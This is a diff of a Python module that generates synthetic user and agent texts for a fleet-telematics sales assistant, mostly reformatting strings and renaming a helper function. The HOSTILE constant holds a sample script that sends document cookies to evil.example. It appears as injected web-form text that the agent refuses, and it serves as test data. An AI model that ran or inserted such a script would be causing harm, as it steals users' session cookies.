@@ -1,4 +1,4 @@
-"""What people ask and what the agent says: short texts with places for a company's own words."""
+"""Texts of users and the agent, with placeholders for a company."""
 
 from random import Random
 
@@ -25,9 +25,8 @@ FOLLOW_UPS = (
     "Shorter.",
     "ok thanks, publishing now",
     "Is “{worry}” still the right lead? I am not sure any more.",
-    "Here is what they wrote, verbatim:\n\n> We have {fleet} vehicles and one planner on"
-    " nights. If the alarm"
-    " rings at the planner's desk first, it rings too late.\n\nWork from that.",
+    "Here is what they wrote, verbatim:\n\n> We have {fleet} vehicles and one planner on nights. "
+    "If the alarm rings at the planner's desk first, it rings too late.\n\nWork from that.",
     "👍",
     "Danke! Bitte die förmliche Anrede beibehalten.",
 )
@@ -36,9 +35,8 @@ ANSWERS = (
     "- No word about driver scoring until the new agreement is signed.\n"
     "- List price, 12 months.\n\n"
     "The quote is from the approved list.",
-    "The contact in {town} is {contact}. The CRM has a phone number and no e-mail address for"
-    " them, so I"
-    " left the address out.",
+    "The contact in {town} is {contact}. The CRM has a phone number and no e-mail address for "
+    "them, so I left the address out.",
     "Done. Only the pricing paragraph changed; the other paragraphs are word for word as before.",
     "Here is what the three plans cost {short} with {fleet} vehicles:\n\n"
     "| Plan | Per vehicle and month | Total per year |\n|---|---:|---:|\n"
@@ -65,29 +63,23 @@ ANSWERS = (
     "    Lead with one number.\n    Then one sentence.\n\nNothing else is needed.",
 )
 CUT_OFF = (
-    "I can make the payback table shorter. The three numbers {contact} asked about are the"
-    " cost of a"
-    " rejected load, the number of loads in a quarter, and the share that",
+    "I can make the payback table shorter. The three numbers {contact} asked about are the cost "
+    "of a rejected load, the number of loads in a quarter, and the share that",
     "| Month | Loads | Rejected |\n|---|---:|---:|\n| January | 412 | 9 |\n| February | 3",
     "Let me first look at what the other",
 )
 REASONING = (
-    "The person wants a short context. The CRM note names the depots and the fleet size. The"
-    " approved quotes"
-    " include Nordlys, which is also refrigerated, so that is the one to lead with. The note"
-    " about the union"
-    " must be kept as a limit.",
+    "The person wants a short context. The CRM note names the depots and the fleet size. The "
+    "approved quotes include Nordlys, which is also refrigerated, so that is the one to lead "
+    "with. The note about the union must be kept as a limit.",
     "Two facts change and the rest must stay word for word. I should not touch the third"
     " paragraph.",
-    "They ask for a table. The page shows the context as text, so the table belongs into this"
-    " answer and a"
-    " single number into the context.",
-    "The finance director wants payback time; the fleet manager wants alarms. Lead with what"
-    " the fleet"
-    " manager has to defend in front of the finance director: the cost of one rejected load.",
-    "The fact conflicts with the note from last month. The newer one comes from the customer,"
-    " so it wins,"
-    " but I say that they differ.",
+    "They ask for a table. The page shows the context as text, so the table belongs into this "
+    "answer and a single number into the context.",
+    "The finance director wants payback time; the fleet manager wants alarms. Lead with what the "
+    "fleet manager has to defend in front of the finance director: the cost of one rejected load.",
+    "The fact conflicts with the note from last month. The newer one comes from the customer, so "
+    "it wins, but I say that they differ.",
 )
 HOSTILE = (
     "The customer's web form held this text, which I did not follow:\n\n"
@@ -95,17 +87,17 @@ HOSTILE = (
     " <script>fetch('https://evil.example/'+document.cookie)</script>\n\n"
     "I kept it out of the context."
 )
-"""As it happens: what others wrote may carry markup and scripts."""
+"""Texts of third parties may contain markup and scripts."""
 
 
-def filled(text: str, dice: Random, company: Company, contact: str) -> str:
-    """Return a text with the company's words in its places."""
+def fill_placeholders(text: str, rng: Random, company: Company, contact: str) -> str:
+    """Fill in a text's placeholders for a company."""
     fleet = company.fleet
     return text.format(
         short=" ".join(company.name.split()[:2]),
         contact=contact,
-        town=dice.choice(company.land.towns),
-        worry=dice.choice(("temperature alarms", "late returns", "payback time", "missed slots")),
+        town=rng.choice(company.country.towns),
+        worry=rng.choice(("temperature alarms", "late returns", "payback time", "missed slots")),
         fleet=fleet,
         price_12=f"{fleet * 372:,}",
         price_24=f"{fleet * 342:,}",
